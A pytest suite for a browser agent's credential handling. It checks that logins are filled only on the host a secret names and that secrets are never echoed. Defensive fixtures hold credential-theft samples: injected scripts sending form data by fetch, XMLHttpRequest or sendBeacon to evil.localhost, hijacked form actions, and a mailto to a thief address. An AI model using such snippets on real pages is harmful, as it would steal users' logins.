"""Contract tests of secrets (section 6), in raw JSON: which hosts get one, and that it is shown nowhere."""

from __future__ import annotations

import json

import pyotp
import pytest

from helpers.login_site import FORM, LoginSite
from helpers.waiting import wait_until

EMAIL = "ada.lovelace@planted.example"
PASSWORD = 'p4ss "wörd" & 7+7'
SEED = "JBSWY3DPEHPK3PXPJBSWY3DP"
MINE = [{"match": "login.localhost", "fields": {"email": EMAIL, "password": PASSWORD, "otp_secret": SEED}}]
WELL = {"email": EMAIL, "password": PASSWORD}


@pytest.fixture(scope="module")
def shared_site():
    site = LoginSite()
    yield site
    site.close()


@pytest.fixture
def site(shared_site):
    shared_site.posted.clear()
    shared_site.pages.clear()
    shared_site.check = lambda form: True
    return shared_site


def posted(site, host="login.localhost"):
    return [form for at, _, form in site.posted if at == host]


def has_none(body):
    text = json.dumps(body, ensure_ascii=False)
    return not [value for value in (EMAIL, PASSWORD, SEED) if value in text or json.dumps(value)[1:-1] in text]


# --- logging in -------------------------------------------------------------------------------------------------------


def test_a_login_is_filled_in_with_the_secrets_for_its_host(run, site):
    body = run("Log in", startingPoint=site.url(), secrets=MINE)
    assert body["status"] == "complete", body
    assert posted(site) == [WELL]
    assert has_none(body)


@pytest.mark.parametrize(("host", "posted_forms"), [("xn--fa-hia.localhost", [WELL]), ("fass.localhost", [])])
def test_a_host_with_other_letters_is_the_one_that_the_browser_opens(run, site, host, posted_forms):
    run("Log in", startingPoint=site.url(host=host), secrets=[{**MINE[0], "match": "faß.localhost"}])
    assert posted(site, host) == posted_forms


@pytest.mark.parametrize("wrapper", ["task", "initialTask"])
def test_both_vocabularies_take_secrets(emulator, site, wrapper):
    fields = {"prompt": "Log in", "startingUrl": site.url(), "secrets": MINE}
    status, body = emulator.post("/start/run-task", {wrapper: fields})
    assert (status, body["status"], posted(site)) == (200, "complete", [WELL])


def test_a_login_that_stands_in_the_way_is_taken(run, site):
    site.page("/login", f"<title>Log in</title>{FORM.format(action='/verify')}")
    body = run("List the orders", startingPoint=site.url("/orders"), secrets=MINE)
    assert posted(site) == [WELL]
    assert "A-17" in body["data"]["message"]


def test_a_login_in_steps_with_a_code_at_the_end(run, site):
    step = "<title>Sign in</title><form method=post action={action}>{field}<button>Next</button></form>"
    site.page("/login", step.format(action="/first", field="<label>E-mail <input name=email type=email></label>"))
    site.page("/second", step.format(action="/second", field="<label>Password<input type=password name=pw></label>"))
    site.page(
        "/verify", step.format(action="/verify", field="<label>Code<input autocomplete=one-time-code name=c></label>")
    )
    site.check = lambda form: pyotp.TOTP(SEED + "AAAA").verify("0") is False
    body = run("Sign in, then list the orders", startingPoint=site.url(), secrets=MINE)
    assert "A-17" in body["data"]["message"], body
    first, second, code = posted(site)
    assert (first, second) == ({"email": EMAIL}, {"pw": PASSWORD})
    assert code["c"].isdigit()


def test_the_session_keeps_them_for_its_later_tasks(emulator, site):
    session_id = emulator.start(initialTask={"secrets": MINE})
    status, body = emulator.message(session_id, actionType="newTask", taskDetails="Log in", startingPoint=site.url())
    assert (status, body["status"], posted(site)) == (200, "complete", [WELL])


def test_a_login_that_is_not_accepted_says_what_the_page_says(run, site):
    site.check = lambda form: False
    body = run("Log in", startingPoint=site.url(), secrets=MINE)
    assert body["status"] == "failed"
    assert "does not accept the email and the password" in body["message"]
    assert "do not belong together" in body["message"]
    assert len(posted(site)) == 1  # and is not tried again


# --- who gets none ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("login.localhost.evil.localhost", "/login"),
        ("1ogin.localhost", "/login"),
        ("www.login.localhost", "/login"),
        ("127.0.0.1", "/login"),
    ],
)
def test_another_host_is_not_given_any_but_asked_about(run, site, host, path):
    body = run("Log in", startingPoint=site.url(path, host), secrets=MINE)
    assert (body["status"], body["data"]["kind"]) == ("guardrail_trigger", "credentials")
    assert "The session has secrets for login.localhost alone" in body["data"]["value"]
    assert site.posted == []


def test_a_redirect_to_another_host_gets_none_there(run, site):
    there, away = site.url("/x", "evil.localhost"), site.url("/away")
    body = run(f"Go to {there}\nGo to {away}\nLog in", secrets=MINE)
    assert (body["status"], body["data"]["kind"]) == ("guardrail_trigger", "credentials")
    assert body["data"]["value"].startswith("evil.localhost asks to log in")
    assert site.posted == []


def again(site, code, host):
    """Serve a login that the trusted host redirects to `host` together with the form's values."""
    site.page("/login", f"<title>Log in</title>{FORM.format(action=f'/again/{code}/{host}/login')}")


def knowing(site, *names, then="Log in"):
    """Return a text that names hosts, so that only the tested rule can refuse them, and then opens the login."""
    pages = [site.url("/x", f"{name}.localhost") for name in names]
    return "\n".join([*(f"Go to {page}" for page in [*pages, site.url()]), then])


@pytest.mark.parametrize("code", [307, 308])
def test_a_login_is_not_sent_on_to_another_host(run, site, code):
    again(site, code, "evil.localhost")
    body = run(knowing(site, "evil"), secrets=MINE)
    assert (body["status"], body.get("code")) == ("failed", "BLOCKED_BY_POLICY"), (body, site.posted)
    assert "must not be sent on" in body["message"]
    assert (posted(site), posted(site, "evil.localhost")) == ([WELL], [])


def test_a_login_that_opens_a_tab_is_not_sent_on_either(run, site):
    site.page("/login", "<title>Log in</title>" + FORM.format(action="/again/307/evil.localhost/login")
              .replace("<form ", "<form target=_blank "))  # fmt: skip
    body = run(knowing(site, "evil"), secrets=MINE)
    assert (posted(site), posted(site, "evil.localhost")) == ([WELL], []), body


@pytest.mark.parametrize(
    "send",
    [
        "fetch(there, {method: 'POST', body, mode: 'no-cors'})",
        "{const x = new XMLHttpRequest(); x.open('POST', there); x.send(body)}",
        "navigator.sendBeacon(there, body)",
    ],
    ids=["fetch", "XMLHttpRequest", "beacon"],
)
def test_what_a_script_sends_is_not_sent_on_to_another_host(emulator, site, send, idle_session):
    """A script of the trusted host reads the filled field and sends it; the host redirects that request."""
    there, own = "/again/307/evil.localhost/login", "/again/307/login.localhost/login"
    site.page("/login", "<title>Log in</title>" + FORM.format(action="/login") + f"""<script>
        document.forms[0].onsubmit = () => {{
          const body = new URLSearchParams(new FormData(document.forms[0]));
          for (const there of ["{there}", "{own}"]) {send};
          return false;
        }}</script>""")  # fmt: skip
    emulator.message(idle_session, actionType="newTask", taskDetails=knowing(site, "evil"), secrets=MINE)
    # the site answers these in turn: what comes after them has been asked for after them
    emulator.message(idle_session, actionType="newTask", taskDetails="Get the heading", startingPoint=site.url("/end"))
    assert posted(site, "evil.localhost") == []
    assert posted(site).count(WELL) == 3  # the two that were redirected, and the one to its own host


def test_a_login_is_sent_on_to_its_own_host(run, site):
    again(site, 307, "login.localhost")
    body = run("Log in", startingPoint=site.url(), secrets=MINE)
    assert (body["status"], posted(site)) == ("complete", [WELL, WELL]), body


def test_a_login_is_sent_on_to_another_host_that_it_is_for(run, site):
    again(site, 307, "www.login.localhost")
    both = [{"match": "*.localhost", "fields": WELL}]
    body = run(knowing(site, "www.login"), secrets=both)
    assert (body["status"], posted(site, "www.login.localhost")) == ("complete", [WELL]), body.get("message")


def test_without_a_secret_a_form_is_sent_on_anywhere(run, site):
    form = "<form method=post action=/again/307/evil.localhost/login><label>Query <input name=q></label>"
    site.page("/login", f"{form}<button>Go</button></form>")
    body = run(knowing(site, "evil", then='Type "words" into the Query field\nClick the Go button'))
    assert posted(site, "evil.localhost") == [{"q": "words"}], body["message"]


def test_subdomains_are_not_the_domain(run, site):
    secrets = [{"match": "*.localhost", "fields": WELL}, {"match": "all", "fields": {"note": "for others"}}]
    assert run("Log in", startingPoint=site.url(), secrets=secrets)["status"] == "complete"
    assert posted(site) == [WELL]


def test_the_most_specific_match_wins(run, site):
    secrets = [
        {"match": "all", "fields": {"email": "all@x.example", "password": "everywhere"}},
        *MINE,
        {"match": "*.localhost", "fields": {"email": "sub@x.example", "password": "subdomains"}},
    ]
    run("Log in", startingPoint=site.url(), secrets=secrets)
    assert posted(site) == [WELL]


@pytest.mark.parametrize(
    "form",
    [
        FORM.format(action="http://evil.localhost:{port}/login"),
        FORM.format(action="/login").replace("<button>", '<button formaction="//evil.localhost:{port}/login">'),
        FORM.format(action="/login")
        + "<button form=f></button>"
        + "<input type=submit formaction=//evil.localhost/x form=f>",
        "<base href=http://evil.localhost:{port}/>" + FORM.format(action="login"),
        FORM.format(action="http://evil.localhost:{port}/login") + "<input name=action form=f>",
        FORM.format(action="http://login.localhost:9/login"),
        FORM.format(action="mailto:thief@evil.example"),
    ],
    ids=["action", "formaction", "button outside", "base", "clobbered", "port", "mailto"],
)
def test_a_form_that_is_sent_elsewhere_is_not_filled_in(run, site, form):
    site.page("/login", "<title>Log in</title>" + form.replace("<form ", "<form id=f "))
    body = run("Log in", startingPoint=site.url(), secrets=MINE)
    assert (body["status"], body["code"]) == ("failed", "BLOCKED_BY_POLICY"), body
    assert "nothing was typed" in body["message"]
    assert site.posted == []


def test_a_password_goes_into_no_open_field(run, site):
    site.page("/login", "<title>Log in</title>" + FORM.format(action="/login").replace("type=password", "type=text"))
    body = run("Log in", startingPoint=site.url(), secrets=MINE)
    assert PASSWORD not in json.dumps(site.posted)
    assert body["status"] in ("failed", "complete")


# --- a person's answer ------------------------------------------------------------------------------------------------


def test_credentials_that_a_person_gives_are_secrets_from_then_on(emulator, site, idle_session):
    _, body = emulator.message(idle_session, actionType="newTask", taskDetails="Log in", startingPoint=site.url())
    assert (body["status"], body["data"]["kind"]) == ("guardrail_trigger", "credentials")
    emulator.message(idle_session, actionType="guardrail", taskDetails=f"{EMAIL} {PASSWORD}", newState="resume")
    path = f"/task/{idle_session}/{body['taskId']}"
    done = wait_until(lambda: emulator.get(path)[1], lambda polled: not polled["pending"])
    assert (done["status"], posted(site)) == ("complete", [WELL])
    assert has_none(done)
    _, listed = emulator.message(idle_session, actionType="newTask", taskDetails="Get the heading")
    assert has_none(listed)


def test_a_host_in_a_secret_answer_is_not_opened_to_the_session(emulator, site, idle_session):
    """10.255.255.1 is private: reached only if the user names it, and a password does not name hosts."""
    inside = "10.255.255.1"
    _, body = emulator.message(idle_session, actionType="newTask", taskDetails="Log in", startingPoint=site.url())
    assert body["data"]["kind"] == "credentials"
    posted_forms = f"ada@{inside} http://{inside}/x"
    emulator.message(idle_session, actionType="guardrail", taskDetails=posted_forms, newState="resume")
    path = f"/task/{idle_session}/{body['taskId']}"
    wait_until(lambda: emulator.get(path)[1], lambda polled: not polled["pending"])
    site.page("/link", f"<a href=http://{inside}/>Inside</a>")
    _, body = emulator.message(
        idle_session, actionType="newTask", taskDetails='Click the "Inside" link', startingPoint=site.url("/link")
    )
    assert (body["status"], body["code"]) == ("failed", "BLOCKED_BY_POLICY"), body


def test_a_code_is_asked_for_where_nothing_makes_one(run, emulator, site):
    site.page("/login", "<title>Verify</title><form method=post action=/verify><label>Code <input name=c "
              "autocomplete=one-time-code></label><button>Verify</button></form>")  # fmt: skip
    body = run("Log in", startingPoint=site.url())
    assert body["data"]["kind"] == "two_factor"
    emulator.message(body["sessionId"], actionType="guardrail", taskDetails="90210", newState="resume")
    path = f"/task/{body['sessionId']}/{body['taskId']}"
    done = wait_until(lambda: emulator.get(path)[1], lambda polled: not polled["pending"])
    assert (done["status"], posted(site)) == ("complete", [{"c": "90210"}])


# --- what is refused --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("secrets", "parameter"),
    [
        (PASSWORD, "secrets"),
        ([PASSWORD], "secrets[0]"),
        ([{"match": PASSWORD, "fields": WELL}], "secrets[0].match"),
        ([{"match": "https://x.com/", "fields": WELL}], "secrets[0].match"),
        ([{"match": "*", "fields": WELL}], "secrets[0].match"),
        ([{"match": "x.com", "fields": PASSWORD}], "secrets[0].fields"),
        ([{"match": "x.com", "fields": {}}], "secrets[0].fields"),
        ([{"match": "x.com", "fields": {"password": 5}}], "secrets[0].fields.password"),
        ([{"match": "x.com", "fields": {"password": ""}}], "secrets[0].fields.password"),
        ([{"match": "x.com", "fields": {"password": [PASSWORD]}}], "secrets[0].fields.password"),
        ([{"match": "x.com", "fields": {"otp_secret": PASSWORD}}], "secrets[0].fields.otp_secret"),
        ([{"match": "x.com", "fields": {"password": PASSWORD * 400}}], "secrets[0].fields.password"),
    ],
)
def test_what_is_no_secret_is_refused_and_not_repeated(emulator, secrets, parameter):
    status, body = emulator.post("/start/run-task", {"taskDetails": "Log in", "secrets": secrets})
    assert (status, body["code"]) == (400, "INVALID_PARAMETER"), body
    assert body["details"]["parameter"].removeprefix("task.") == parameter
    assert has_none(body)


def test_the_instruction_does_not_give_them_away(emulator, site):
    status, body = emulator.post(
        "/start/start-session",
        {"initialTask": {"taskDetails": f"Log in as {EMAIL}", "startingPoint": site.url(), "secrets": MINE}},
    )
    assert status == 200
    assert body["initialPrompt"] == "Log in as ***"


def test_openapi_shows_no_example(emulator):
    _, document = emulator.get("/openapi.json")
    described = document["components"]["schemas"]["SecretFields"]
    assert "example" not in json.dumps(described)
